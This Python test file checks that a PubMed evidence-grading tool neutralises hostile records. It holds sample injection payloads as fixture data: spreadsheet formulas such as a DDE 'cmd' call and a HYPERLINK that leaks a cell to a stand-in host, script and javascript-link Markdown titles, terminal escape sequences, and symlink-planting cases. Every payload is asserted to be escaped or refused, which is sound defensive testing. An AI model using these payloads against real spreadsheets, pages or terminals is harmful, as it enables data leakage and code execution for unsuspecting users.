"""Hostile records and outputs (issue 12): what a forged or booby-trapped record can do, and cannot.

Each test names the defect it pins down; docs/robustness.md lists them all with the tool's answer.
Records are our own fixtures (tests/data) or written here; NCBI is FakeNCBI on loopback.
"""

from __future__ import annotations

import csv
import io
import os
import stat
import time
from pathlib import Path

import pytest

from evidence import cli
from evidence.cache import Cache
from evidence.grading.labels import study_labels
from evidence.grading.service import assess_claims, snapshot_grades
from evidence.jobs.importer import import_file
from evidence.models import Annotation, Author, Record
from evidence.outputs.annotations_csv import export_annotations_csv, import_annotations_csv
from evidence.outputs.digest import build_digest, render_digest_markdown, write_digest
from evidence.outputs.exports import to_bibtex, to_csv
from evidence.outputs.report import build_report, render_markdown
from evidence.pubmed.medline import parse_medline
from evidence.registry import load_registry, search_term
from evidence.sanitize import md_escape
from tests.ncbi_server import FakeNCBI, load_records_from_files
from tests.refresh_support import fast_client, run_refresh, write_registry

DATA = Path(__file__).parent / "data"
CONTROLS = ("\x1b", "\x07", "\x00", "\x9b", "\x9d")
FORMULAS = ('=HYPERLINK("http://x/?"&A1,"pdf")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1", "\r=1")


def nbib(pmid: str, title: str, *, types: tuple[str, ...] = ("Journal Article",), extra: str = "") -> str:
    """A small MEDLINE record as PubMed saves it (SO last), written by hand."""
    lines = [f"PMID- {pmid}", f"TI  - {title}", "FAU - Doe, Jane", "AU  - Doe J", "DP  - 2020 Jan",
             "JT  - Journal of Tests", *[f"PT  - {t}" for t in types], *([extra] if extra else []),
             "SO  - J Tests. 2020;1:1."]
    return "\n".join(lines) + "\n\n"


def claim_cache(tmp_path: Path, records: list[Record], claim: str = "alpha") -> Path:
    path = tmp_path / "c.sqlite"
    with Cache(path) as cache:
        cache.store_batch([(r, r.pmid.encode()) for r in records], {r.pmid: [claim] for r in records}, run_id=None)
    return path


# -- 1. formula injection in every CSV the tool writes ----------------------------------------


def test_csv_export_neutralises_formula_cells():
    records = [Record(pmid=str(100 + i), title=f, journal=f, authors=(Author(collective_name=f),))
               for i, f in enumerate(FORMULAS)]
    rows = list(csv.DictReader(io.StringIO(to_csv(records))))
    for row, formula in zip(rows, FORMULAS, strict=True):
        for column in ("title", "journal", "authors"):
            assert row[column] == "'" + formula.replace("\r", ""), (column, row[column])  # CR: a control
    assert rows[0]["pmid"] == "100"  # ordinary cells are left alone


def test_annotations_csv_neutralises_formulas_and_imports_them_back_unchanged(tmp_path):
    notes = [Annotation("alpha", str(100 + i), "Dr =Lee", relevant=True, note=f, updated_at="2026-01-01T00:00:00+00:00")
             for i, f in enumerate((*[f.strip() for f in FORMULAS], "'already quoted", "plain"))]
    text = export_annotations_csv(notes)
    cells = [row[5] for row in csv.reader(io.StringIO(text))][1:]
    assert all(c.startswith("'") for c in cells[: len(FORMULAS) + 1]) and cells[-1] == "plain"
    assert export_annotations_csv([Annotation("a", "1", "r", note="\t=1")]).splitlines()[1].endswith(",'\t=1,")
    path = tmp_path / "a.csv"
    path.write_text(text, encoding="utf-8")
    with Cache(claim_cache(tmp_path, [Record(pmid=a.pmid) for a in notes])) as cache:
        assert import_annotations_csv(cache, path, {"alpha"}) == len(notes)
        assert sorted(cache.annotations(), key=lambda a: int(a.pmid)) == notes


def test_dashboard_reviews_download_is_neutralised(tmp_path, monkeypatch):
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
    from streamlit.testing.v1 import AppTest

    from tests.dashboard_cache import OWN_XML, build_cache, parse_files

    built = build_cache(tmp_path / "e.sqlite", parse_files(OWN_XML), with_script=False)
    with Cache(built.path) as cache:
        cache.save_annotation(Annotation(built.single, built.links[built.single][0], "Dr X", note="@SUM(1+1)"))
    served: list[bytes | str] = []
    real = MemoryMediaFileStorage.load_and_get_id

    def record(self, data, mimetype, kind, filename=None):
        served.append(data)
        return real(self, data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", record)
    monkeypatch.setenv("EVIDENCE_CACHE", str(built.path))
    monkeypatch.setenv("EVIDENCE_QUERIES", str(built.queries))
    at = AppTest.from_file(str(Path(__file__).resolve().parents[1] / "app.py"), default_timeout=60).run()
    assert not at.exception
    reviews = next(d for d in served if b"claim_id,pmid,reviewer" in (d if isinstance(d, bytes) else d.encode()))
    text = reviews.decode() if isinstance(reviews, bytes) else reviews
    assert ",'@SUM(1+1)," in text and ",@SUM" not in text


# -- 2. the digest escapes Markdown as the report does: one function --------------------------


HOSTILE_TITLE = "<script>alert(1)</script> ![img](http://host/track.png) [x](javascript:alert(1)) | # *"


def test_digest_and_report_escape_hostile_titles_with_the_one_markdown_escaping(tmp_path, capsys):
    queries = write_registry(tmp_path / "reg", ["alpha"])
    registry = load_registry(queries)
    path = tmp_path / "c.sqlite"
    with Cache(path) as cache:
        run = cache.start_run(1)
        cache.store_batch([(Record(pmid="7", title=HOSTILE_TITLE, year=2020), b"7")], {"7": ["alpha"]}, run_id=run)
        cache.finish_run(run, "ok", requests=1)
        snapshot_grades(registry.claims, cache, run)
        digest = render_digest_markdown(build_digest(cache, claims={c.id: c for c in registry.claims}))
        evidence = assess_claims(registry.claims, cache)
    report = render_markdown(build_report(registry.articles, registry.claims,
                                          {c: e.assessments for c, e in evidence.items()}))
    assert cli.main(["--cache", str(path), "--queries", str(queries), "digest"]) == 0
    printed = capsys.readouterr().out
    for text in (digest, report, printed):
        assert md_escape(HOSTILE_TITLE) in text
        assert "<script" not in text and "![img](" not in text and "[x](" not in text


# -- 3. PubMed outranks an import -------------------------------------------------------------


def test_pubmed_record_replaces_an_imported_copy_and_the_change_is_reported(tmp_path):
    queries = write_registry(tmp_path / "reg", ["alpha"])
    registry = load_registry(queries)
    forged = tmp_path / "forged.nbib"
    forged.write_text(nbib("99999911", "FORGED miracle trial", types=("Randomized Controlled Trial",)), "utf-8")
    path = tmp_path / "c.sqlite"
    with Cache(path) as cache:
        import_file(cache, forged, "alpha")
        snapshot_grades(registry.claims, cache, 0)  # the forged copy is classified (and its label stored)
        assert study_labels(cache, ["99999911"])["99999911"].design == "rct"
    real = load_records_from_files([DATA / "parser_broken_batch.xml"])
    with FakeNCBI(real, {search_term(registry.claims[0]): ["99999911"]}) as ncbi:
        hook = lambda cache, run: snapshot_grades(registry.claims, cache, run) or []  # noqa: E731
        first = run_refresh(registry, path, fast_client(ncbi), after_run=hook)
        second = run_refresh(registry, path, fast_client(ncbi), after_run=hook)
    assert first.replaced == ["99999911"] and "imported records replaced by PubMed's" in first.to_text()
    assert second.replaced == [] and second.status == "ok"
    with Cache(path, readonly=True) as cache:
        stored = cache.get_record("99999911")
        assert stored.source == "pubmed" and "FORGED" not in stored.record.title
        assert study_labels(cache, ["99999911"])["99999911"].design == "other"  # no stale label: the grade fell back
        assert "revised" in set(cache.changes()["kind"])  # the digest lists it among revised records


def test_import_reports_a_version_that_conflicts_with_pubmeds(tmp_path):
    path = tmp_path / "c.sqlite"
    pubmed = Record(pmid="4242", title="The real title", year=2020, publication_types=("Journal Article",))
    with Cache(path) as cache:
        cache.store_batch([(pubmed, b"<PubmedArticle/>")], {"4242": ["alpha"]}, run_id=None)
        file = tmp_path / "x.nbib"
        file.write_text(nbib("4242", "A forged title", types=("Randomized Controlled Trial",)), "utf-8")
        result = import_file(cache, file, "alpha")
        assert result.conflicts == ("4242",) and "4242" not in result.updated
        assert "differ from PubMed's record in the cache, which was kept (PMID 4242)" in result.summary()
        assert cache.get_record("4242").record.title == "The real title"


# -- 8. terminal control characters -----------------------------------------------------------


def test_terminal_controls_never_reach_the_terminal_or_a_file(tmp_path, capsys):
    queries = write_registry(tmp_path / "reg", ["alpha"])
    file = tmp_path / "esc.nbib"
    file.write_text(nbib("5151", "Title \x1b]0;owned\x07 with \x1b[2J clear \x00 and \x9b31m",
                         extra="AB  - \x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\ text"), "utf-8")
    path = tmp_path / "c.sqlite"
    Cache(path).close()
    base = ["--cache", str(path), "--queries", str(queries)]
    assert cli.main([*base, "import", str(file), "--claim", "alpha"]) == 0
    with Cache(path, readonly=True) as cache:
        stored = cache.get_record("5151").record
        assert not any(c in stored.title + stored.abstract for c in CONTROLS)
        assert not any(c.encode() in cache.get_raw_xml("5151") for c in CONTROLS)
    # A cache written before the fix may still hold them: outputs strip them too.
    dirty = Record(pmid="6161", title="Old \x1b]0;x\x07 title \x9b", journal="J \x1b[1m", abstract="a\x00b")
    with Cache(path) as cache:
        cache.store_batch([(dirty, b"<x>\x1b[2J</x>")], {"6161": ["alpha"]}, run_id=None)
    capsys.readouterr()
    outputs = []
    for argv in (["show", "6161"], ["show", "6161", "--json"], ["show", "6161", "--xml"],
                 *[["export", "--format", f, "--claim", "alpha"] for f in ("ama", "bibtex", "ris", "csljson", "csv")],
                 *[["report", "--format", f] for f in ("md", "json", "html")], ["digest", "--since", "2000-01-01"]):
        assert cli.main([*base, *argv]) == 0, argv
        outputs.append(capsys.readouterr().out)
    assert cli.main([*base, "report", "--format", "md", "-o", str(tmp_path / "r.md")]) == 0
    outputs.append((tmp_path / "r.md").read_text("utf-8"))
    with Cache(path) as cache:  # the digest files every refresh writes
        run = cache.start_run(1)
        cache.store_batch([(Record(pmid="7171", title="New \x1b]0;x\x07 \x9b"), b"7")], {"7171": ["alpha"]},
                          run_id=run)
        cache.finish_run(run, "ok", requests=1)
        outputs += [p.read_text("utf-8") for p in write_digest(cache, tmp_path / "digests", run)]
    for text in outputs:
        assert not any(c in text for c in CONTROLS), repr(text[:200])
    assert "Old" in outputs[0] and "title" in outputs[0]


# -- 9. unsafe output files -------------------------------------------------------------------


def _report(tmp_path: Path, output: str) -> int:
    path = tmp_path / "c.sqlite"
    Cache(path).close()
    queries = write_registry(tmp_path / "reg", ["alpha"])
    return cli.main(["--cache", str(path), "--queries", str(queries), "report", "-o", output])


def test_a_symlink_planted_at_a_temporary_name_is_never_followed(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    for name in ("r.md.tmp", ".r.md.tmp"):
        (tmp_path / name).symlink_to(victim)
    assert _report(tmp_path, str(tmp_path / "r.md")) == 0
    assert victim.read_text() == "precious\n"
    assert (tmp_path / "r.md").read_text().startswith("# Evidence report")
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".r.md.") and not p.is_symlink()]


def _device(tmp_path: Path) -> Path:
    """A character device to write to: a /dev/full twin of our own as root (the old code replaced
    /dev/full itself), else /dev/null, which an unprivileged user cannot replace anyway."""
    if os.geteuid() != 0:
        return Path("/dev/null")
    node = tmp_path / "full"
    os.mknod(node, 0o666 | stat.S_IFCHR, os.makedev(1, 7))
    return node


@pytest.mark.parametrize("kind", ["directory", "fifo", "device", "symlink-to-device"])
def test_output_to_a_directory_fifo_or_device_is_refused_whole(kind, tmp_path, capsys):
    target = tmp_path / "out"
    if kind == "directory":
        target.mkdir()
    elif kind == "fifo":
        os.mkfifo(target)
    elif kind == "device":
        target = _device(tmp_path)
    else:
        target.symlink_to(_device(tmp_path))
    before = sorted(p.name for p in tmp_path.iterdir())
    assert _report(tmp_path, str(target)) == 1
    error = capsys.readouterr().err.strip().splitlines()[-1]
    assert error.startswith("error: cannot write") and str(target) in error
    assert ("directory" in error) if kind == "directory" else ("regular files only" in error)
    after = sorted(p.name for p in tmp_path.iterdir() if "sqlite" not in p.name and p.name != "reg")
    assert after == before  # no temporary file left behind
    if kind == "fifo":
        assert stat.S_ISFIFO(os.lstat(target).st_mode)
    if kind.endswith("device"):
        assert stat.S_ISCHR(os.stat(target).st_mode)  # still the device, not a regular file


@pytest.mark.parametrize("output", ["/proc/nope/x.md", "{tmp}/file.txt/x.md"])
def test_output_in_a_folder_that_cannot_exist_is_one_line(output, tmp_path, capsys):
    (tmp_path / "file.txt").write_text("x")
    assert _report(tmp_path, output.format(tmp=tmp_path)) == 1
    err = capsys.readouterr().err
    assert "Traceback" not in err and err.strip().splitlines()[-1].startswith("error: cannot write")


# -- 11. MEDLINE parsing is linear ------------------------------------------------------------


def test_medline_parsing_is_linear_in_a_long_field():
    lines = "".join("      " + "word " * 15 + "\n" for _ in range(56_000))  # a 4 MB abstract
    text = "PMID- 1\nAB  - start\n" + lines + "CIN - " + " " * 200_000 + "x PMID: 5\nAID - " + "a" * 100_000 + \
        "[doi\nSO  - J. 2020.\n"
    started = time.perf_counter()
    (record, _raw), = parse_medline(text)
    assert time.perf_counter() - started < 5  # quadratic joining took minutes
    assert len(record.abstract) > 4_000_000 and record.comments_corrections[0].pmid == "5"


# -- 12. smaller defects ----------------------------------------------------------------------


def test_design_filter_ignores_case_and_refuses_an_unknown_design(tmp_path, capsys):
    queries = write_registry(tmp_path / "reg", ["alpha"])
    rct = Record(pmid="9", title="A randomized trial", publication_types=("Randomized Controlled Trial",))
    path = claim_cache(tmp_path, [rct, Record(pmid="10", title="A letter", publication_types=("Letter",))])
    base = ["--cache", str(path), "--queries", str(queries), "export", "--format", "csv"]
    assert cli.main([*base, "--design", "RCT"]) == 0
    assert [r["pmid"] for r in csv.DictReader(io.StringIO(capsys.readouterr().out))] == ["9"]
    assert cli.main([*base, "--design", "rtc"]) == 2
    assert "unknown design 'rtc'" in capsys.readouterr().err


def test_a_backslash_in_bibtex_is_one_textbackslash():
    entry = to_bibtex([Record(pmid="1", title=r"A\B {x} 50% ~ ^", year=2020)])
    assert r"title = {A\textbackslash{}B \{x\} 50\% \textasciitilde{} \textasciicircum{}}" in entry
    import bibtexparser

    assert bibtexparser.parse_string(entry).entries[0]["title"].startswith(r"A\textbackslash{}B")
